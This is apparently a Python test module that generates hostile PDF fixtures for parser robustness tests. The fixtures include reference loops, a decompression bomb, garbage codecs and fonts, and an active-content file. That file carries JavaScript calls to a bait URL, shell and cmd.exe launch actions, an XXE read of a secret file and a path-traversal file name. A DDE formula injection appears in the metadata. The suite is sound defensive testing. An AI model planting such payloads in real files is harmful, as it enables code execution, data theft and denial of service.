"""PDF files: loops of objects, absurd boxes and counts, bombs in streams, garbage in codecs and fonts, active content."""

from __future__ import annotations

import io
import random
import zlib
from collections.abc import Mapping

from reportlab.lib.pagesizes import A4
from reportlab.pdfgen.canvas import Canvas

from tests.hostile.case import Bait, case

TEXT = "Handlingsplan mot brott och ordningsproblem"
LAYER = f"BT /F1 12 Tf 72 720 Td ({TEXT}) Tj ET"


def stream(data: bytes, entries: str = "") -> str | bytes:
    return f"<< /Length {len(data)} {entries} >>\nstream\n".encode() + data + b"\nendstream"


def flate(data: bytes, times: int = 1, entries: str = "") -> bytes:
    for _ in range(times):
        data = zlib.compress(data, 9)
    made = stream(data, f"/Filter [{'/FlateDecode ' * times}] {entries}")
    assert isinstance(made, bytes)
    return made


def pdf(objects: Mapping[int, str | bytes], trailer: str = "/Root 1 0 R", *, table: bool = True) -> bytes:
    """A file of these objects, with a proper cross-reference table."""
    out = io.BytesIO(b"%PDF-1.7\n%\xe5\xe4\xf6\n")
    out.seek(0, 2)
    offsets = {}
    for number, value in sorted(objects.items()):
        offsets[number] = out.tell()
        out.write(f"{number} 0 obj\n".encode() + (value.encode() if isinstance(value, str) else value) + b"\nendobj\n")
    start = out.tell()
    if table:
        out.write(f"xref\n0 {max(objects) + 1}\n0000000000 65535 f \n".encode())
        for number in range(1, max(objects) + 1):
            known = number in offsets
            out.write(f"{offsets.get(number, 0):010} {0 if known else 65535:05} {'n' if known else 'f'} \n".encode())
    out.write(f"trailer\n<< /Size {max(objects) + 1} {trailer} >>\nstartxref\n{start}\n%%EOF\n".encode())
    return out.getvalue()


def plan(
    changes: Mapping[int, str | bytes] | None = None, *, page: str = "", content: str | bytes = LAYER,
    resources: str = "", box: str = "[0 0 595 842]", catalog: str = "", trailer: str = "",
) -> bytes:  # fmt: skip
    """A plain file of one page: 1 catalog, 2 pages, 3 page, 4 content, 5 font; `changes` adds or replaces objects."""
    body = content.encode() if isinstance(content, str) else content
    objects: dict[int, str | bytes] = {
        1: f"<< /Type /Catalog /Pages 2 0 R {catalog} >>",
        2: "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: f"<< /Type /Page /Parent 2 0 R /MediaBox {box} /Contents 4 0 R {page} "
        f"/Resources << /Font << /F1 5 0 R >> {resources} >> >>",
        4: stream(body),
        5: "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        **(changes or {}),
    }
    return pdf(objects, f"/Root 1 0 R {trailer}")


HELD = ("Handlingsplan mot brott",)


@case("pdf-kids-cycle.pdf", "truncated", "done")
def kids(bait: Bait) -> bytes:
    return plan({2: "<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})


@case("pdf-kids-cycle-of-two.pdf", "done", "truncated")
def kids_two(bait: Bait) -> bytes:
    return plan({
        2: "<< /Type /Pages /Kids [6 0 R 3 0 R] /Count 2 >>",
        6: "<< /Type /Pages /Parent 2 0 R /Kids [2 0 R] /Count 1 >>",
    })  # fmt: skip


@case("pdf-parent-loop.pdf", "done", holds=HELD)
def parents(bait: Bait) -> bytes:
    loop = "<< /Type /Page /Parent 6 0 R /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return plan({3: loop, 6: "<< /Type /Pages /Parent 7 0 R >>", 7: "<< /Type /Pages /Parent 6 0 R >>"})


@case("pdf-xref-loop.pdf", "done", holds=HELD)
def xref(bait: Bait) -> bytes:
    data = plan()
    start = data.rindex(b"\nxref\n") + 1
    return data.replace(b"trailer\n<<", f"trailer\n<< /Prev {start} ".encode())


@case("pdf-xref-stream-loop.pdf", "done", "truncated")
def xref_stream(bait: Bait) -> bytes:
    head = b"%PDF-1.7\n"
    made = stream(b"", f"/Type /XRef /Size 3 /W [1 2 1] /Root 1 0 R /Prev {len(head)} /Index [0 2147483647]")
    assert isinstance(made, bytes)
    return head + b"1 0 obj\n" + made + f"\nendobj\nstartxref\n{len(head)}\n%%EOF".encode()


@case("pdf-object-stream-of-itself.pdf", "done", "truncated")
def object_stream(bait: Bait) -> bytes:
    return plan({
        3: stream(b"3 0 6 10 " + b"6 0 R     << /Extends 3 0 R >>", "/Type /ObjStm /N 2 /First 9 /Extends 6 0 R"),
        6: stream(b"6 0 3 10 " + b"3 0 R", "/Type /ObjStm /N 99999999 /First 9 /Extends 3 0 R"),
    })  # fmt: skip


@case("pdf-references-in-a-circle.pdf", "done", "truncated")
def circle(bait: Bait) -> bytes:
    return plan({3: "6 0 R", 6: "7 0 R", 7: "3 0 R"})


@case("pdf-length-of-itself.pdf", "done", "truncated")
def length(bait: Bait) -> bytes:
    return plan({4: f"<< /Length 4 0 R >>\nstream\n{LAYER}\nendstream"})


@case("pdf-outline-loop.pdf", "done", holds=HELD)
def outline(bait: Bait) -> bytes:
    items = {
        6: "<< /Type /Outlines /First 7 0 R /Last 7 0 R /Count 2147483647 >>",
        7: "<< /Title (a) /Parent 6 0 R /Next 8 0 R /First 6 0 R >>",
        8: "<< /Title (b) /Parent 7 0 R /Next 7 0 R /First 7 0 R >>",
    }
    return plan(items, catalog="/Outlines 6 0 R")


@case("pdf-form-in-itself.pdf", "done", "limit", group="limit")
def form(bait: Bait) -> bytes:
    entries = "/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R /Y 7 0 R >> >>"
    forms = {6: stream(b"/X Do /Y Do /Y Do", entries), 7: stream(b"/X Do /Y Do /X Do", entries)}
    return plan(forms, content=LAYER + " /X Do", resources="/XObject << /X 6 0 R >>")


@case("pdf-forms-exponential.pdf", "done", "too-large", "limit", group="limit")
def forms(bait: Bait) -> bytes:
    """Ten forms, each drawn twelve times by the one before it: 12 to the 10th pictures of one line."""
    made: dict[int, str | bytes] = {}
    for n in range(10):
        entries = f"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X {11 + n} 0 R >> >>"
        made[10 + n] = stream(b"/X Do " * 12, entries)
    made[20] = stream(b"0 0 m 10 10 l S", "/Type /XObject /Subtype /Form /BBox [0 0 595 842]")
    return plan(made, content=LAYER + " /X Do", resources="/XObject << /X 10 0 R >>")


@case("pdf-pattern-in-itself.pdf", "done", holds=HELD)
def pattern(bait: Bait) -> bytes:
    entries = (
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.0001 /YStep 0.0001 "
        "/Resources << /Pattern << /P 6 0 R >> >>"
    )
    tile = stream(b"/Pattern cs /P scn 0 0 1 1 re f", entries)
    content = LAYER + " /Pattern cs /P scn 0 0 595 842 re f"
    return plan({6: tile}, content=content, resources="/Pattern << /P 6 0 R >>")


@case("pdf-glyph-in-itself.pdf", "done")
def type3(bait: Bait) -> bytes:
    font = (
        "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1 1] /FontMatrix [1 0 0 1 0 0] /CharProcs << /a 6 0 R >> "
        "/Encoding << /Type /Encoding /Differences [97 /a] >> /FirstChar 97 /LastChar 97 /Widths [1] "
        "/Resources << /Font << /F1 5 0 R >> >> >>"
    )
    glyph = stream(b"1 0 d0 BT /F1 12 Tf (aaaa) Tj ET")
    return plan({5: font, 6: glyph}, content="BT /F1 12 Tf 72 720 Td (aaaaaaaa) Tj ET")


@case("pdf-soft-mask-loop.pdf", "done", holds=HELD)
def mask(bait: Bait) -> bytes:
    entries = "/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Group << /S /Transparency >> /Resources << /ExtGState << /G 7 0 R >> >>"
    made = {6: stream(b"/G gs 0 0 9 9 re f", entries), 7: "<< /SMask << /S /Alpha /G 6 0 R >> >>"}
    return plan(made, content=LAYER + " /G gs 0 0 99 99 re f", resources="/ExtGState << /G 7 0 R >>")


def tagged(made: dict[int, str | bytes]) -> bytes:
    """A plan whose text is marked content 0 of the structure tree that begins with object 6."""
    content = f"/TD << /MCID 0 >> BDC {LAYER} EMC"
    catalog = "/StructTreeRoot 6 0 R /MarkInfo << /Marked true >>"
    return plan(made, content=content, page="/StructParents 0", catalog=catalog)


@case("pdf-tags-loop.pdf", "done", holds=HELD)
def tags(bait: Bait) -> bytes:
    made = {
        6: "<< /Type /StructTreeRoot /K [7 0 R] /ParentTree 9 0 R >>",
        7: "<< /Type /StructElem /S /Table /P 8 0 R /Pg 3 0 R /K [8 0 R 7 0 R 0] >>",
        8: "<< /Type /StructElem /S /TR /P 7 0 R /Pg 3 0 R /K [7 0 R 8 0 R 0] >>",
        9: "<< /Kids [9 0 R] /Nums [0 [7 0 R 8 0 R]] >>",
    }
    return tagged(made)


@case("pdf-tags-with-absurd-spans.pdf", "done", holds=HELD)
def spans(bait: Bait) -> bytes:
    made = {
        6: "<< /Type /StructTreeRoot /K [7 0 R] /ParentTree 9 0 R >>",
        7: "<< /Type /StructElem /S /Table /P 6 0 R /Pg 3 0 R /K [8 0 R] >>",
        8: "<< /Type /StructElem /S /TR /P 7 0 R /Pg 3 0 R /K [10 0 R] >>",
        9: "<< /Nums [0 [10 0 R]] >>",
        10: "<< /Type /StructElem /S /TD /P 8 0 R /Pg 3 0 R /K 0 /A << /O /Table /ColSpan 2147483647 /RowSpan 2147483647 >> >>",
    }
    return tagged(made)


@case("pdf-kilometre.pdf", "too-large")
def kilometre(bait: Bait) -> bytes:
    return plan(box="[0 0 2834646 2834646]")


@case("pdf-user-unit.pdf", "done", "too-large")
def unit(bait: Bait) -> bytes:
    return plan(page="/UserUnit 100000")


@case("pdf-no-size.pdf", "done", "truncated")
def no_size(bait: Bait) -> bytes:
    return plan(box="[0 0 0 0]")


@case("pdf-upside-down.pdf", "done", holds=HELD)
def upside_down(bait: Bait) -> bytes:
    return plan(box="[595 842 0 0]", page="/Rotate 45 /CropBox [99999 99999 -1 -1]")


@case("pdf-nan-box.pdf", "done", "too-large", "truncated")
def nan(bait: Bait) -> bytes:
    return plan(box="[NaN 1e999 -1e999 99999999999999999999999999999999999999999999]")


@case("pdf-text-outside.pdf", "done")
def outside(bait: Bait) -> bytes:
    content = f"BT /F1 1e30 Tf 1e38 0 0 1e38 1e38 -1e38 Tm ({TEXT}) Tj /F1 -12 Tf 0 0 0 0 0 0 Tm ({TEXT}) Tj ET"
    return plan(content=content + " 1e38 0 0 1e38 0 0 cm -1e38 1e38 m 1e38 -1e38 l S 1e38 1e38 1e38 1e38 re f")


@case("pdf-hundred-thousand-pages.pdf", "too-large")
def pages(bait: Bait) -> bytes:
    return plan({2: f"<< /Type /Pages /Kids [{'3 0 R ' * 100_000}] /Count 100000 >>"})


@case("pdf-pages-that-are-not-there.pdf", "too-large", "done", "truncated")
def missing_pages(bait: Bait) -> bytes:
    return plan({2: "<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>"})


@case("pdf-deep-page-tree.pdf", "done", "truncated", "limit")
def deep_tree(bait: Bait) -> bytes:
    tree: dict[int, str | bytes] = {2: "<< /Type /Pages /Kids [10 0 R] /Count 1 >>"}
    for n in range(10, 5_000):
        tree[n] = f"<< /Type /Pages /Parent {n - 1} 0 R /Kids [{n + 1} 0 R] /Count 1 >>"
    tree[5_000] = "<< /Type /Page /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>"
    return plan(tree)


@case("pdf-deep-arrays.pdf", "done", "truncated", "limit")
def arrays(bait: Bait) -> bytes:
    return plan({6: "[" * 200_000 + "]" * 200_000, 7: "<< /A " * 100_000 + ">>" * 100_000}, catalog="/X 6 0 R /Y 7 0 R")


@case("pdf-deep-states.pdf", "done", holds=HELD)
def states(bait: Bait) -> bytes:
    return plan(content="q " * 200_000 + LAYER + "[" * 5_000 + " Q" * 300_000)


@case("pdf-million-letters.pdf", "done", "too-large", "limit", group="limit")
def letters(bait: Bait) -> bytes:
    lines = "".join(f"1 0 0 1 {n % 90 * 6} {n // 90 % 800} Tm (Abc {n}) Tj " for n in range(150_000))
    return plan({4: flate(f"BT /F1 4 Tf {lines} ET".encode())})


@case("pdf-million-rules.pdf", "done", "too-large", "limit", group="limit")
def rules(bait: Bait) -> bytes:
    drawn = "".join(f"{n % 595} {n // 595 % 842} m {n % 595 + 3} {n // 595 % 842} l S " for n in range(400_000))
    return plan({4: flate((LAYER + drawn).encode())})


@case("pdf-flate-bomb.pdf", "done", "limit", "too-large", "truncated", group="limit")
def bomb(bait: Bait) -> bytes:
    once = zlib.compress(bytes(1 << 20), 9)
    big = zlib.compressobj(9)
    packed = b"".join(big.compress(b" " * (1 << 20)) for _ in range(1536)) + big.flush()
    assert once
    made = stream(zlib.compress(packed, 9), "/Filter [/FlateDecode /FlateDecode]")
    return plan({4: made})


@case("pdf-filters-many.pdf", "done", "truncated")
def filters(bait: Bait) -> bytes:
    return plan(
        {4: stream(b"x" * 100, f"/Filter [{'/ASCIIHexDecode /ASCII85Decode /LZWDecode /RunLengthDecode ' * 5000}]")}
    )


@case("pdf-predictor.pdf", "done", "truncated")
def predictor(bait: Bait) -> bytes:
    parameters = "/DecodeParms << /Predictor 15 /Columns 2147483647 /Colors 2147483647 /BitsPerComponent 64 >>"
    return plan({4: flate(LAYER.encode(), entries=parameters)})


def picture(data: bytes, name: str, size: tuple[int, int] = (100, 100), more: str = "") -> bytes:
    width, height = size
    entries = (
        f"/Type /XObject /Subtype /Image /Width {width} /Height {height} /ColorSpace /DeviceGray /BitsPerComponent 8 "
        f"/Filter /{name} {more}"
    )
    return plan(
        {6: stream(data, entries)},
        content=LAYER + " q 300 0 0 300 72 72 cm /I Do Q",
        resources="/XObject << /I 6 0 R >>",
    )


NOISE = random.Random(4).randbytes(20_000)


@case("pdf-jbig2-garbage.pdf", "done", holds=HELD)
def jbig2(bait: Bait) -> bytes:
    return picture(
        b"\x00\x00\x00\x00\x30\x00\x01\x00\x00\x00\x13\xff\xff\xff\xff\xff\xff\xff\xff" + NOISE, "JBIG2Decode"
    )


@case("pdf-dct-garbage.pdf", "done", holds=HELD)
def dct(bait: Bait) -> bytes:
    return picture(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03" + NOISE, "DCTDecode")


@case("pdf-jpx-garbage.pdf", "done", holds=HELD)
def jpx(bait: Bait) -> bytes:
    head = b"\x00\x00\x00\x0cjP  \r\n\x87\n\x00\x00\x00\x14ftypjp2 \x00\x00\x00\x00jp2 \x00\x00\x00-jp2h\x00\x00\x00\x16ihdr"
    return picture(head + b"\xff" * 8 + NOISE, "JPXDecode")


@case("pdf-ccitt-garbage.pdf", "done", holds=HELD)
def ccitt(bait: Bait) -> bytes:
    return picture(
        NOISE, "CCITTFaxDecode", (2**31 - 1, 2**31 - 1), "/DecodeParms << /K -1 /Columns 2147483647 /Rows 2147483647 >>"
    )


@case("pdf-lzw-garbage.pdf", "done", holds=HELD)
def lzw(bait: Bait) -> bytes:
    return picture(
        NOISE, "LZWDecode", (60_000, 60_000), "/DecodeParms << /EarlyChange 99 /Predictor 2 /Columns 60000 >>"
    )


@case("pdf-gigapixel.pdf", "done", "too-large", "limit", group="limit")
def gigapixel(bait: Bait) -> bytes:
    """A picture alone on its page: OCR is asked for."""
    data = zlib.compress(bytes(8_000 * 60_000 // 8), 9)
    image = "/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode"
    return plan({6: stream(data, image)}, content="595 0 0 842 0 0 cm /I Do", resources="/XObject << /I 6 0 R >>")


@case("pdf-inline-image.pdf", "done", holds=HELD)
def inline(bait: Bait) -> bytes:
    return plan(content=LAYER + " BI /W 2147483647 /H 2147483647 /BPC 8 /CS /G /F [/Fl /Fl /AHx] ID xx EI " + LAYER)


@case("pdf-font-garbage.pdf", "done")
def font(bait: Bait) -> bytes:
    descriptor = (
        "<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 7 0 R /FontBBox [0 0 0 0] /MissingWidth 1e30 >>"
    )
    # A table directory that points everywhere: 65535 tables, offsets beyond the file and into itself.
    program = b"\x00\x01\x00\x00\xff\xff\x00\x80\x00\x03\x00\x70" + b"".join(
        tag + b"\xff\xff\xff\xff" + (n * 7).to_bytes(4, "big") + b"\xff\xff\xff\xf0"
        for n, tag in enumerate((b"cmap", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp", b"name", b"post"))
    )
    made = {
        5: "<< /Type /Font /Subtype /TrueType /BaseFont /X /FirstChar 0 /LastChar 255 /FontDescriptor 6 0 R /ToUnicode 8 0 R >>",
        6: descriptor,
        7: stream(program + NOISE),
        8: stream(b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfchar <41> <d800> endbfchar"),
    }
    return plan(made, content=f"BT /F1 12 Tf 72 720 Td (\x01\x02ABC{TEXT}) Tj ET")


@case("pdf-cff-garbage.pdf", "done")
def cff(bait: Bait) -> bytes:
    made = {
        5: "<< /Type /Font /Subtype /Type1 /BaseFont /X /FontDescriptor 6 0 R >>",
        6: "<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile3 7 0 R >>",
        7: stream(b"\x01\x00\x04\x04\xff\xff\x04\xff\xff\xff\xff\xff\xff\xff\xff" + NOISE, "/Subtype /Type1C"),
    }
    return plan(made, content=f"BT /F1 12 Tf 72 720 Td (\x01\x02ABC{TEXT}) Tj ET")


@case("pdf-cmap-of-everything.pdf", "done", "limit", group="limit")
def cmap(bait: Bait) -> bytes:
    ranges = b"100 beginbfrange\n" + b"<0000> <FFFF> <0041>\n<00000000> <FFFFFFFF> <0041>\n" * 2_000 + b"endbfrange\n"
    made = {
        5: "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /Identity-H /DescendantFonts [6 0 R] /ToUnicode 8 0 R >>",
        6: "<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /FontDescriptor 7 0 R /CIDToGIDMap /Identity >>",
        7: "<< /Type /FontDescriptor /FontName /X /Flags 4 /FontFile2 9 0 R >>",
        8: stream(ranges + b"1 beginbfchar <0041> <" + b"00410042" * 50_000 + b"> endbfchar"),
        9: stream(NOISE),
    }
    return plan(made, content="BT /F1 12 Tf 72 720 Td <004100420043FFFF00000001> Tj ET")


@case("pdf-cmap-of-itself.pdf", "done")
def cmap_loop(bait: Bait) -> bytes:
    made = {
        5: "<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding 6 0 R /DescendantFonts [5 0 R] /ToUnicode 6 0 R >>",
        6: stream(b"/X usecmap", "/Type /CMap /CMapName /X /UseCMap 6 0 R"),
    }
    return plan(made, content="BT /F1 12 Tf 72 720 Td <00410042> Tj ET")


def _encrypted(user: str, owner: str) -> bytes:
    out = io.BytesIO()
    from reportlab.lib.pdfencrypt import StandardEncryption

    canvas = Canvas(out, pagesize=A4, encrypt=StandardEncryption(user, owner, canPrint=0, canCopy=0), invariant=1)
    canvas.drawString(72, 720, TEXT)
    canvas.save()
    return out.getvalue()


@case("pdf-user-password.pdf", "encrypted")
def user_password(bait: Bait) -> bytes:
    return _encrypted("hemligt", "hemligare")


@case("pdf-owner-password.pdf", "done", holds=HELD)
def owner_password(bait: Bait) -> bytes:
    # Opens without a password everywhere; the owner's wishes about copying bind programs that copy.
    return _encrypted("", "hemligt")


@case("pdf-unknown-lock.pdf", "encrypted", "truncated")
def unknown_lock(bait: Bait) -> bytes:
    return plan(
        {6: "<< /Filter /Nobody.Knows /V 99 /R 99 /Length 99999999 /O () /U () /P -1 >>"},
        trailer="/Encrypt 6 0 R /ID [() ()]",
    )


@case("pdf-active.pdf", "done", holds=HELD)
def active(bait: Bait) -> bytes:
    """Everything that a reader may be asked to do on opening."""
    script = f"app.launchURL('{bait.url}'); this.exportDataObject('x', 2); SOAP.request('{bait.url}')"
    made = {
        6: f"<< /S /JavaScript /JS ({script.replace('(', '[').replace(')', ']')}) /Next [7 0 R 8 0 R 9 0 R 10 0 R 6 0 R] >>",
        7: f"<< /S /Launch /F << /Type /Filespec /F ({bait.canary}) /UF (/bin/sh) >> /Win << /F (cmd.exe) /P (/c calc) >> >>",
        8: f"<< /S /URI /URI ({bait.url}/uri) >>",
        9: f"<< /S /GoToR /F ({bait.url}/remote.pdf) /D [0 /Fit] >>",
        10: f"<< /S /SubmitForm /F << /FS /URL /F ({bait.url}/submit) >> /Fields [] >>",
        11: stream(b"#!/bin/sh\ntouch " + str(bait.canary).encode(), "/Type /EmbeddedFile"),
        12: "<< /Type /Filespec /F (../../evil.sh) /EF << /F 11 0 R >> >>",
        13: stream(
            f'<!DOCTYPE x [<!ENTITY e SYSTEM "{bait.secret.as_uri()}">]><xdp:xdp xmlns:xdp="x">&e;</xdp:xdp>'.encode()
        ),
        14: "<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A 8 0 R >>",
        15: f"<< /Type /XObject /Subtype /Form /BBox [0 0 9 9] /Ref << /F << /FS /URL /F ({bait.url}/x.pdf) >> /Page 0 >> /Length 0 >>",
    }
    catalog = (
        "/OpenAction 6 0 R /AA << /WC 6 0 R /WS 6 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >> "
        "/EmbeddedFiles << /Names [(evil) 12 0 R] >> >> /AcroForm << /Fields [] /XFA 13 0 R >>"
    )
    return plan(made, catalog=catalog, page="/AA << /O 6 0 R >> /Annots [14 0 R]")


@case("pdf-stream-from-a-file.pdf", "done", "truncated", lacks=(Bait.SECRET,))
def external_stream(bait: Bait) -> bytes:
    return plan({4: f"<< /Length 0 /F ({bait.secret}) /FFilter /FlateDecode >>\nstream\n\nendstream"})


@case("pdf-odd-properties.pdf", "done", holds=HELD)
def information(bait: Bait) -> bytes:
    info = (
        "<< /Title 7 0 R /Author (=cmd|' /C calc'!A0) /CreationDate (D:99999999999999) /Subject <FEFFD800DC00D800> >>"
    )
    return plan({6: info, 7: "(" + "A" * 2_000_000 + ")"}, trailer="/Info 6 0 R")


@case("half.pdf", "done", "truncated")
def half(bait: Bait) -> bytes:
    data = plan()
    return data[: len(data) // 2]


@case("head-only.pdf", "truncated")
def head(bait: Bait) -> bytes:
    return b"%PDF-1.7\n"


@case("noise.pdf", "truncated")
def noise(bait: Bait) -> bytes:
    return b"%PDF-1.7\n" + NOISE


@case("pdf-inside-a-picture.pdf", "done", "truncated")
def polyglot(bait: Bait) -> bytes:
    return b"\x89PNG\r\n\x1a\n" + plan()
